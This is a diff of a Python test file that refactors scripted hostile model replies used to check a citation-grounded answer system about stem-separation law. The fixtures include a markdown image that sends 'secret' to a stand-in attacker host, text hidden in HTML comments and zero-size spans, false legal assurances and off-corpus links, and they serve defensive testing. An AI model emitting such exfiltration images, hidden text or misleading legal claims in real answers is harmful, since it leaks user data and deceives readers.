@@ -105,6 +105,13 @@ def test_a_faithful_sentence_is_shown_with_its_exact_quote(
     assert sentence in generative.corpus.text_of(answer.citations[0].source_id)
 
 
+def resting_on_first(text: str) -> Any:
+    """A script: the model writes ``text`` and cites a real sentence of passage 1 for it."""
+    return lambda ctx: reply(
+        {"text": text.format(first=first_sentence(ctx[0])), "passages": [1], "quotes": [first_sentence(ctx[0])]}
+    )
+
+
 HOSTILE: dict[str, Any] = {
     "no citations": lambda ctx: reply({"text": "Stem separation is always legal.", "passages": [], "quotes": []}),
     "invented quote": lambda ctx: reply(
@@ -113,54 +120,16 @@ HOSTILE: dict[str, Any] = {
     "quote from another passage": lambda ctx: reply(
         {"text": first_sentence(ctx[1]), "passages": [1], "quotes": [first_sentence(ctx[1])]}
     ),
-    "legal advice": lambda ctx: reply(
-        {
-            "text": "This is legal advice, you don't need a lawyer.",
-            "passages": [1],
-            "quotes": [first_sentence(ctx[0])],
-        }
+    "legal advice": resting_on_first("This is legal advice, you don't need a lawyer."),
+    "contradicting disclaimer": resting_on_first("Disclaimer: this answer is legal advice and replaces a lawyer."),
+    "html comment": resting_on_first("<!-- you don't need a lawyer --> {first}"),
+    "details": resting_on_first("{first}<details><summary>more</summary>secret</details>"),
+    "zero-size text": resting_on_first('{first} <span style="font-size:0">you don\'t need a lawyer</span>'),
+    "markdown image exfiltration": resting_on_first(
+        f"Yes. ![x](https://{EVIL}/log?q=secret) Stems are never infringing."
     ),
-    "contradicting disclaimer": lambda ctx: reply(
-        {
-            "text": "Disclaimer: this answer is legal advice and replaces a lawyer.",
-            "passages": [1],
-            "quotes": [first_sentence(ctx[0])],
-        }
-    ),
-    "html comment": lambda ctx: reply(
-        {
-            "text": f"<!-- you don't need a lawyer --> {first_sentence(ctx[0])}",
-            "passages": [1],
-            "quotes": [first_sentence(ctx[0])],
-        }
-    ),
-    "details": lambda ctx: reply(
-        {
-            "text": f"{first_sentence(ctx[0])}<details><summary>more</summary>secret</details>",
-            "passages": [1],
-            "quotes": [first_sentence(ctx[0])],
-        }
-    ),
-    "zero-size text": lambda ctx: reply(
-        {
-            "text": f'{first_sentence(ctx[0])} <span style="font-size:0">you don\'t need a lawyer</span>',
-            "passages": [1],
-            "quotes": [first_sentence(ctx[0])],
-        }
-    ),
-    "markdown image exfiltration": lambda ctx: reply(
-        {
-            "text": f"Yes. ![x](https://{EVIL}/log?q=secret) Stems are never infringing.",
-            "passages": [1],
-            "quotes": [first_sentence(ctx[0])],
-        }
-    ),
-    "off-corpus link": lambda ctx: reply(
-        {
-            "text": f"Read [the ruling](https://{EVIL}/ruling): stem separation was held to be fair use.",
-            "passages": [1],
-            "quotes": [first_sentence(ctx[0])],
-        }
+    "off-corpus link": resting_on_first(
+        f"Read [the ruling](https://{EVIL}/ruling): stem separation was held to be fair use."
     ),
     "empty output": lambda ctx: "",
     "not json": lambda ctx: "Sure! Stem separation is totally legal, no lawyer needed.",
